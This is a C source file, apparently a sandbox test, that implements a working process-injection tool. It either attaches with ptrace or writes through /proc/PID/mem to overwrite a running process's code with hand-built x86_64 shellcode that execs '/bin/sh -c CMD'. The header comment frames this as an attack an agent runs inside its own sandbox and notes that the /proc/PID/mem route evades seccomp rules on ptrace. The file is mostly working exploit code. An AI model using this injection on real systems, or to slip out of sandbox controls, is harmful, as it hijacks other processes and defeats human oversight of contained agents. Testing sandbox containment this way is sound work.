/* inject: the borrowed-process attack, as an agent runs it inside its own sandbox (tests only).
 *
 *   inject ptrace PID CMD   PTRACE_ATTACH to PID, overwrite the code at its instruction pointer
 *                           with execve("/bin/sh", {"sh", "-c", CMD}, NULL), point it there
 *                           (no syscall restart) and detach: PID then runs CMD in its place.
 *   inject mem PID CMD      the same code written through /proc/PID/mem at the address where PID
 *                           resumes from its blocking syscall (/proc/PID/syscall's last field):
 *                           no ptrace call at all, which seccomp rules on ptrace do not stop.
 *
 * Prints "injected" (exit 0), or "refused: <step>: <error>" (exit 1); anything else exits 2.
 * The code is x86_64's; elsewhere only the refusal can be shown (exit 3 once past it).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static int refused(const char *step) {
    printf("refused: %s: %s\n", step, strerror(errno));
    return 1;
}

/* code + "/bin/sh" + "-c" + CMD + argv[], laid out for address `at`; returns its length (8-aligned). */
static size_t payload(uint8_t *buf, size_t cap, uint64_t at, const char *cmd) {
    size_t n = 0, len = strlen(cmd) + 1;
    if (64 + 16 + len + 32 > cap) return 0;
    const size_t code = 32, sh = code, dashc = sh + 8, text = dashc + 3;
    size_t argv = (text + len + 7) & ~(size_t)7;
    uint64_t a_sh = at + sh, a_argv = at + argv;
    buf[n++] = 0x48; buf[n++] = 0xbf; memcpy(buf + n, &a_sh, 8); n += 8;   /* mov rdi, imm64 */
    buf[n++] = 0x48; buf[n++] = 0xbe; memcpy(buf + n, &a_argv, 8); n += 8; /* mov rsi, imm64 */
    buf[n++] = 0x31; buf[n++] = 0xd2;                                      /* xor edx, edx */
    buf[n++] = 0xb8; buf[n++] = 59; buf[n++] = 0; buf[n++] = 0; buf[n++] = 0; /* mov eax, 59 (execve) */
    buf[n++] = 0x0f; buf[n++] = 0x05;                                      /* syscall */
    buf[n++] = 0x0f; buf[n++] = 0x0b;                                      /* ud2 */
    while (n < code) buf[n++] = 0x90;
    memcpy(buf + sh, "/bin/sh", 8);
    memcpy(buf + dashc, "-c", 3);
    memcpy(buf + text, cmd, len);
    for (size_t i = text + len; i < argv; i++) buf[i] = 0;
    uint64_t ptrs[4] = {a_sh, at + dashc, at + text, 0};
    memcpy(buf + argv, ptrs, sizeof ptrs);
    return argv + sizeof ptrs;
}

int main(int argc, char **argv) {
    if (argc != 4) { fprintf(stderr, "usage: inject ptrace|mem PID CMD\n"); return 2; }
    pid_t pid = (pid_t)atoi(argv[2]);
    static uint8_t buf[8192] __attribute__((aligned(8)));
    if (strcmp(argv[1], "ptrace") == 0) {
        if (ptrace(PTRACE_ATTACH, pid, 0, 0) != 0) return refused("ptrace attach");
        int st;
        if (waitpid(pid, &st, __WALL) < 0) return refused("wait");
#if defined(__x86_64__)
        struct user_regs_struct regs;
        if (ptrace(PTRACE_GETREGS, pid, 0, &regs) != 0) return refused("getregs");
        size_t n = payload(buf, sizeof buf, regs.rip, argv[3]);
        if (n == 0) { fprintf(stderr, "command too long\n"); return 2; }
        for (size_t i = 0; i < n; i += 8) {
            uint64_t word;
            memcpy(&word, buf + i, 8);
            if (ptrace(PTRACE_POKETEXT, pid, (void *)(regs.rip + i), (void *)word) != 0) return refused("poketext");
        }
        regs.orig_rax = (uint64_t)-1; /* no syscall restart: resume exactly at the new code */
        if (ptrace(PTRACE_SETREGS, pid, 0, &regs) != 0) return refused("setregs");
        if (ptrace(PTRACE_DETACH, pid, 0, 0) != 0) return refused("detach");
        printf("injected\n");
        return 0;
#else
        ptrace(PTRACE_DETACH, pid, 0, 0);
        printf("attached (no payload for this architecture)\n");
        return 3;
#endif
    }
    if (strcmp(argv[1], "mem") == 0) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
        int fd = open(path, O_RDWR);
        if (fd < 0) return refused("open /proc/PID/mem for writing");
        snprintf(path, sizeof path, "/proc/%d/syscall", (int)pid);
        FILE *f = fopen(path, "r");
        if (!f) return refused("open /proc/PID/syscall");
        char line[512];
        if (!fgets(line, sizeof line, f)) return refused("read /proc/PID/syscall");
        fclose(f);
        char *last = strrchr(line, ' ');
        uint64_t pc = last ? strtoull(last + 1, NULL, 16) : 0;
        if (pc == 0) { fprintf(stderr, "not in a syscall: %s", line); return 2; }
#if defined(__x86_64__)
        size_t n = payload(buf, sizeof buf, pc, argv[3]);
        if (pwrite(fd, buf, n, (off_t)pc) != (ssize_t)n) return refused("write /proc/PID/mem");
        printf("injected\n");
        return 0;
#else
        printf("opened (no payload for this architecture)\n");
        return 3;
#endif
    }
    fprintf(stderr, "usage: inject ptrace|mem PID CMD\n");
    return 2;
}
